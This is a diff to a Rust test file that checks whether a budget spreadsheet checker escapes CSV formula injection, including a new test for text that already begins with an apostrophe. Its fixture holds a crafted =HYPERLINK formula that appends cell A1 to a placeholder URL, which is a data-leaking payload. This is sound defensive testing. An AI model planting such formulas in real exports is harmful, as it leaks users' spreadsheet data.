@@ -1,6 +1,7 @@
 //! CSV injection: a sheet named `-Realisasi` and an uraian `=HYPERLINK(…)` in a row with a
 //! finding must reach the CSV report as text Excel will not run (`'`-prefixed), while the
-//! figures, negative ones included, stay plain numbers.
+//! figures, negative ones included, stay plain numbers. A text that itself starts with `'`
+//! gets one more, so stripping one `'` gives every text back exactly.
 
 mod common;
 
@@ -12,6 +13,11 @@ const SHEET: &str = "-Realisasi";
 const URAIAN: &str = "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"Klik\")";
 
 fn crafted(dir: &Workdir) -> std::path::PathBuf {
+    crafted_with(dir, URAIAN)
+}
+
+/// The crafted table with `uraian` on the kegiatan row (which has findings).
+fn crafted_with(dir: &Workdir, uraian: &str) -> std::path::PathBuf {
     let mut book = Workbook::new();
     let sheet = book.add_worksheet();
     sheet.set_name(SHEET).unwrap();
@@ -27,7 +33,7 @@ fn crafted(dir: &Workdir) -> std::path::PathBuf {
     // Kegiatan and two sub kegiatan; the kegiatan's sisa is typed 0 instead of 50, so it is
     // neither pagu − realisasi nor the sum of its items: negative differences.
     let rows: [(&str, &str, f64, f64, f64); 3] = [
-        ("5.03.01.2.02", URAIAN, 300.0, 250.0, 0.0),
+        ("5.03.01.2.02", uraian, 300.0, 250.0, 0.0),
         ("5.03.01.2.02.01", "Penyediaan Gaji", 100.0, 90.0, 10.0),
         (
             "5.03.01.2.02.04",
@@ -102,4 +108,27 @@ fn other_formats_keep_the_text_as_written() {
         .unwrap()
         .iter()
         .any(|f| f["uraian"] == URAIAN && f["sheet"] == SHEET));
+}
+
+#[test]
+fn a_leading_apostrophe_is_escaped_so_the_escape_can_be_undone() {
+    let dir = Workdir::new();
+    crafted_with(&dir, "'Penyediaan Gaji (diketik dengan apostrof)");
+    let out = dir.run(&["check", "crafted.xlsx", "--format", "csv"]);
+    let text = stdout(&out);
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let uraian = reader.headers().unwrap().iter().position(|h| h == "uraian");
+    let uraian = uraian.unwrap();
+    let found: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[uraian].to_string())
+        .filter(|u| u.contains("apostrof"))
+        .collect();
+    assert!(!found.is_empty(), "no finding on the crafted row:\n{text}");
+    for field in found {
+        assert_eq!(
+            field, "''Penyediaan Gaji (diketik dengan apostrof)",
+            "{text}"
+        );
+    }
 }
